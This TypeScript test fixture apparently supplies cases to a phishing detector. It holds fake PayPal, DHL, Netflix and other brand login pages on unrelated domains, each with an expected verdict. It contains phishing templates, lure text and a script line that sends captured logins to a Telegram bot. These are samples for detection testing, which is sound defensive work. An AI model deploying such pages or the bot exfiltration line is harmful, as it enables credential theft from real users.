// A brand's log-in on a name that the brand does not own: nothing but the log-in says so, whatever the age, host and certificate.
import type { Certificate, Situation } from './situation.ts'

const logIn = (brand: string, script = ''): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${brand}</title></head><body><h1>Log in to ${brand}</h1><form action="/login" method="post"><input name="email" placeholder="E-mail"><input type="password" name="password" placeholder="Password"><button>Log in</button></form>${script}</body></html>`

const DAYS = { '3 days': 3, '60 days': 60, '8 years': 2_922, '25 years': 9_131, 'unknown age': null } as const
const PLAIN = 'quillbarrow.com'

type Row = readonly [
  brand: string,
  domain: string,
  age: keyof typeof DAYS,
  certificate: Certificate,
  verdict: Situation['verdict'],
  beside?: Partial<Situation>,
]

const rows: readonly Row[] = [
  ['PayPal', PLAIN, '3 days', 'new', 'malicious'],
  ['PayPal', PLAIN, '3 days', 'good', 'malicious', { mail: 'good' }],
  ['PayPal', PLAIN, '60 days', 'good', 'suspicious'],
  ['PayPal', PLAIN, '8 years', 'good', 'suspicious'],
  ['PayPal', PLAIN, '25 years', 'good', 'suspicious', { mail: 'good' }],
  ['PayPal', PLAIN, 'unknown age', 'good', 'suspicious'],
  ['PayPal', PLAIN, '8 years', 'self_signed', 'suspicious'],
  ['PayPal', 'paypal-account-restore.com', '8 years', 'good', 'malicious', { mail: 'good' }],
  ['PayPal', 'paypal-account-restore.com', 'unknown age', 'good', 'malicious'],
  ['PayPal', 'northern-lights.pages.dev', '8 years', 'good', 'suspicious'],
  ['DHL', PLAIN, '3 days', 'new', 'malicious'],
  ['DHL', 'ringing-bells.org', '8 years', 'good', 'suspicious', { mail: 'good' }],
  ['Netflix', PLAIN, '3 days', 'new', 'malicious'],
  ['Netflix', PLAIN, 'unknown age', 'expired', 'suspicious'],
]

/** Nothing but its icon says whose log-in it plays. */
const iconOf = (href: string, rel: string, beside = ''): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Login</title><link rel="${rel}" href="${href}"></head><body>${beside}<form action="/login" method="post"><input name="email" placeholder="E-mail"><input type="password" name="password" placeholder="Password"><button>Log in</button></form></body></html>`

const HELP =
  '<h1>Help centre</h1><p>Your account breaks our rules. Enter your details below, so that we can look at it again.</p>'

const icons: readonly (readonly [brand: string, html: string])[] = [
  ['Twitch', iconOf('https://passport.twitch.tv/favicon.ico', 'shortcut icon')],
  ['Proton', iconOf('https://mail.protonmail.com/assets/apple-touch-icon.png', 'apple-touch-icon')],
  ['DHL', iconOf('https://delivery.dhl.com/img/icon.svg', 'mask-icon')],
  ['Facebook, below many words', iconOf('https://static.xx.fbcdn.net/rsrc.php/y.ico', 'icon', HELP.repeat(9))],
]

/** A script prints the name of its host where ordinary sites have theirs. */
const HOST_NAMED = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Welcome to ${PLAIN}</title><meta property="og:site_name" content="${PLAIN}"></head><body><img src="logo.png" alt="PayPal"><h1>PayPal</h1>${'<p>Some of your details must be confirmed before you can go on as usual.</p>'.repeat(14)}<form action="/login" method="post"><input name="email" placeholder="E-mail"><input type="password" name="password" placeholder="Password"><button>Log in</button></form></body></html>`

const BOT = "<script>fetch('https://api.telegram.org/bot123456789:AAHx/sendMessage')</script>"

export const brandLogInSituations: readonly Situation[] = [
  ...rows.map(([brand, domain, age, certificate, verdict, beside = {}]) => ({
    of: `a log-in of ${brand}, on ${domain} of ${age}, certificate ${certificate}`,
    domain,
    age_days: DAYS[age],
    certificate,
    mail: 'none' as const,
    page: { html: logIn(brand) },
    verdict,
    signals: ['impersonated_brand'],
    ...beside,
  })),
  ...icons.flatMap(([brand, html]) =>
    (['3 days', 'unknown age'] as const).map(age => ({
      of: `a log-in under the icon of ${brand}, on a name of ${age}`,
      domain: PLAIN,
      age_days: DAYS[age],
      page: { html },
      verdict: age === '3 days' ? ('malicious' as const) : ('suspicious' as const),
      signals: ['impersonated_brand'],
    })),
  ),
  {
    of: 'a log-in of PayPal that calls itself by the name of its host, on an old name',
    domain: PLAIN,
    age_days: DAYS['8 years'],
    page: { html: HOST_NAMED },
    verdict: 'suspicious',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a log-in of PayPal that a script sends to a bot, on an old name',
    domain: PLAIN,
    age_days: DAYS['8 years'],
    page: { html: logIn('PayPal', BOT) },
    verdict: 'malicious',
    signals: ['impersonated_brand', 'credentials_to_messenger_bot', 'impersonation_by_kit'],
  },
]
